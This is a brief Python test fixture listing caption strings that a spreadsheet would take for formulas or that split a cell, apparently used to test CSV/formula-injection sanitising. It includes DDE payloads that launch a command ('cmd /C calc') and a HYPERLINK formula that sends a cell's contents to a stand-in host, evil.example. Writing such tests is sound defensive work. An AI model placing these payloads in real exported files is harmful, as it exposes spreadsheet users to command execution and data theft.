"""Captions that a spreadsheet would take for formulas, or that part a cell in two."""

ATTACKS = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＠SUM(1)",
    '=HYPERLINK("http://evil.example/?"&A1,"a dog")', "  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1",
    '"=1+1', '" =1+1"', "“=1+1”", "\u200b=1+1", "\0=1+1", "\0", "A dog;=1+1", 'A dog; "=1+1"', "a;;-1",
    "a,=1+1", 'a",=1+1', "a\t=1+1", "see http://a.example/;=1+1 now",
]  # fmt: skip
